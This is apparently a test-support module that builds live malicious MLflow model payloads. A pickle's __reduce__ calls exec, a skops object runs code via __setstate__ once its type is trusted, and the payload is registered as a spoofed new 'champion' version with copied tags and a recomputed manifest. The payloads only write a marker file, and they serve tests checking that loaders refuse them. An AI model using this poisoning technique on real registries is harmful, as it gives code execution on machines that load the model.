"""Real malicious model payloads, and their registration the way an attacker with MLflow access would.

Each payload writes a marker file when it is deserialized by a loader that trusts it: the tests
then assert the marker never appears. They are live payloads, not stand-ins:
`test_payloads_are_live` (tests/unit/test_model_loading.py) shows MLflow's own loader running each
one when allowed to.

- `PickleBomb`: a pickle whose `__reduce__` calls `exec` on unpickling (any pickle-based format).
- `SkopsBomb`: a skops file holding an object of this class; skops runs its `__setstate__` when the
  type is trusted, and MLflow passes skops the trusted-type list stored in the model's own MLmodel
  file, which the attacker writes.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import yaml

from autopilot.adapters import registry

SKOPS_BOMB_TYPE = "tests.payloads.SkopsBomb"


class PickleBomb:
    """Unpickling this runs `exec`, which writes the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (f"open({self.marker!r}, 'w').write('pwned by pickle')",)


class SkopsBomb:
    """A skops-loaded instance runs `__setstate__`, which writes the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __setstate__(self, state: dict[str, Any]) -> None:
        Path(state["marker"]).write_text("pwned by skops")
        self.__dict__.update(state)


def malicious_folder(genuine: Path, dest: Path, kind: str, marker: Path) -> Path:
    """A copy of a genuine MLflow model folder whose model file is a payload (`pickle` or `skops`)."""
    shutil.copytree(genuine, dest)
    spec = yaml.safe_load((dest / "MLmodel").read_text())
    flavor = spec["flavors"]["sklearn"]
    (dest / flavor["pickled_model"]).unlink()
    if kind == "pickle":
        import cloudpickle

        (dest / "model.pkl").write_bytes(cloudpickle.dumps(PickleBomb(marker)))
        flavor.update(pickled_model="model.pkl", serialization_format="cloudpickle", skops_trusted_types=None)
        spec["flavors"]["python_function"]["model_path"] = "model.pkl"
    elif kind == "skops":
        import skops.io as sio

        (dest / "model.skops").write_bytes(sio.dumps(SkopsBomb(marker)))
        flavor["skops_trusted_types"] = [*(flavor.get("skops_trusted_types") or []), SKOPS_BOMB_TYPE]
    else:
        raise ValueError(f"unknown payload kind {kind!r}")
    (dest / "MLmodel").write_text(yaml.safe_dump(spec))
    return dest


def register_malicious(reg: registry.Registry, name: str, genuine: Any, kind: str, marker: Path, workdir: Path,
                       alias: str | None = "champion", tags: dict[str, str] | None = None) -> Any:
    """Register a payload as a new version of `name` with a matching SHA-256 manifest, using only
    MLflow's own client (what anyone with write access to MLflow can do), and point `alias` at it.

    The version reuses the genuine version's run (so its lineage, config and snapshots look
    right) and copies its tags, except the manifest (recomputed for the payload) and any signature.
    """
    import mlflow

    from autopilot.adapters.registry.runs import fluent_uris

    client = reg.client  # MLflow's own client, pointed at the store
    folder = malicious_folder(reg.download(genuine.source), workdir / f"evil-{kind}", kind, marker)
    experiment = client.get_run(genuine.run_id).info.experiment_id
    with fluent_uris(reg), mlflow.start_run(experiment_id=experiment, run_name=f"attacker-{kind}") as run:
        mlflow.log_artifacts(str(folder), "model")
    copied = {k: v for k, v in (genuine.tags or {}).items()
              if k not in (registry.MANIFEST_TAG, registry.IDEMPOTENCY_TAG, "autopilot.manifest_signature")}
    manifest = registry.sha256_manifest(folder)
    version = client.create_model_version(name, f"runs:/{run.info.run_id}/model", genuine.run_id,
                                          tags={**copied, **(tags or {}),
                                                registry.MANIFEST_TAG: json.dumps(manifest, sort_keys=True)})
    if alias:
        client.set_registered_model_alias(name, alias, str(version.version))
    return client.get_model_version(name, str(version.version))
